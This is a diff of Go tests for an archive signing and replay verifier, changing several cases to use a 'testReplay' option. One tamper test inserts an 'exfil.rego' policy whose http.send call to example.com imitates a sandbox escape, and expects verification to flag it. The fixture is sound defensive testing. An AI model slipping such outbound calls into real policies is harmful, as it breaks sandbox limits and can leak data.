@@ -24,7 +24,7 @@ func TestWriteAndVerify(t *testing.T) {
 	if !slices.Equal(a.Order, wantOrder) {
 		t.Errorf("archive entries %v, want %v", a.Order, wantOrder)
 	}
-	res, err := Verify(context.Background(), a, loadVerifier(t, "annexa-test"), VerifyOptions{Now: effective.Add(time.Hour), Replay: true})
+	res, err := Verify(context.Background(), a, loadVerifier(t, "annexa-test"), VerifyOptions{Now: effective.Add(time.Hour), Replay: testReplay})
 	if err != nil {
 		t.Fatalf("Verify: %v", err)
 	}
@@ -224,7 +224,7 @@ func TestTamperedBundles(t *testing.T) {
 			want: []string{"stale: effective time 2026-11-22T00:00:00Z is 744h0m0s old, over --max-age 720h0m0s"}},
 		{name: "post-dated", opts: VerifyOptions{Now: effective.Add(-time.Hour)},
 			want: []string{"effective time 2026-11-22T00:00:00Z is in the future"}},
-		{name: "recorded policy escapes the sandbox, validly signed", opts: VerifyOptions{Replay: true},
+		{name: "recorded policy escapes the sandbox, validly signed", opts: VerifyOptions{Replay: testReplay},
 			mutate: func(t *testing.T, a *Archive) {
 				pf := policyFilesOf(t, a.Files[FilePolicies])
 				pf.Sources[0].Files["exfil.rego"] = []byte("package annexa.lib.exfil\n\nleak := http.send({\"method\": \"GET\", \"url\": \"http://example.com\"})\n")
@@ -236,7 +236,7 @@ func TestTamperedBundles(t *testing.T) {
 				fixManifest(t, a)
 				resign(t, a, nil)
 			}, want: []string{"replay could not run", "http.send"}},
-		{name: "replayed findings differ from the signed report", opts: VerifyOptions{Replay: true},
+		{name: "replayed findings differ from the signed report", opts: VerifyOptions{Replay: testReplay},
 			mutate: func(t *testing.T, a *Archive) {
 				// Edit the bytes, not a re-encoding, so only the status differs.
 				r := a.Files[FileReport]
